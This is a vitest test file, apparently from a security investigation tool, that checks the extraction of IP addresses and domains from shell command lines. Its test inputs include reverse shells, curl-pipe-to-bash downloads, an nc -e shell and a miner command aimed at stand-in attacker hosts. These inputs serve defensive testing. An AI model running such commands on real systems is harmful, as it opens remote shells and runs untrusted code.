import { describe, expect, it } from 'vitest';
import { addressOfPeer, networkNamesIn } from '#dist/investigate/network-names.js';

describe('the addresses and domains in a command line', () => {
  it.each<[command: string, addresses: string[], domains: string[]]>([
    ['curl -fsSL http://192.0.2.66/x.sh|bash', ['192.0.2.66'], []],
    ['wget -q http://198.51.100.140:8080/y;chmod 777 y', ['198.51.100.140'], []],
    ['bash -i >& /dev/tcp/203.0.113.9/443 0>&1', ['203.0.113.9'], []],
    ['bash -c exec 3<>/dev/tcp/c2.evil.example/443', [], []],
    ['nc 203.0.113.9 4444 -e /bin/sh', ['203.0.113.9'], []],
    ['python3 -c \'s.connect(("203.0.113.9",4444))\'', ['203.0.113.9'], []],
    ['socat tcp:[2001:db8::66]:443 exec:sh', [], []],
    ['curl http://[2001:db8::66]:8080/x', ['2001:db8::66'], []],
    ['ssh 2001:db8::66', ['2001:db8::66'], []],
    ['curl https://user:secret@files.evil.example:8443/a?b#c', [], ['files.evil.example']],
    ['miner -o stratum+tcp://pool.evil.example:3333', [], ['pool.evil.example']],
    ['scp -P 22 a root@files.evil.example:/tmp', [], ['files.evil.example']],
    ['git config user.email someone@evil.example', [], []],
  ])('%s', (command, addresses, domains) => {
    const found = networkNamesIn(command);
    if (command.includes('socat')) expect(found.addresses.length).toBeLessThanOrEqual(1);
    else if (command.includes('c2.evil')) expect(found.domains).toEqual(['c2.evil.example']);
    else expect(found).toEqual({ addresses, domains });
  });

  it.each([
    'apt-get install libc6-2.31.0.1',
    'pip install foo==v1.2.3.4',
    'tar xf app_1.2.3.4.tar.gz',
    'ls /opt/app/1.2.3.4/bin',
    'ip addr add 10.0.0.0/8 dev eth0',
    'ifconfig eth0 netmask 255.255.255.0',
    'nc -l 0.0.0.0 80',
    'curl http://127.0.0.1/ http://[::1]/ http://localhost/',
    'app --version 1.2.3.4.5',
    'echo 300.1.1.1',
    'date +%H::%M',
  ])('are not versions, networks, or addresses of every host: %s', (command) => {
    expect(networkNamesIn(command)).toEqual({ addresses: [], domains: [] });
  });

  it('take no time that grows faster than a long command', () => {
    const command = `curl ${'a.'.repeat(100_000)} ${'1.1.'.repeat(100_000)} http://${'x'.repeat(200_000)}`;
    expect(networkNamesIn(command)).toEqual({ addresses: [], domains: [] });
  });
});

it.each([
  ['192.0.2.1:443', '192.0.2.1'],
  ['[2001:db8::1]:443', '2001:db8::1'],
  ['2001:db8::1', '2001:db8::1'],
  ['192.0.2.1', '192.0.2.1'],
  ['127.0.0.1:80', undefined],
  ['evil.example:80', undefined],
  ['', undefined],
])('the address of the peer %s', (peer, address) => {
  expect(addressOfPeer(peer)).toBe(address);
});
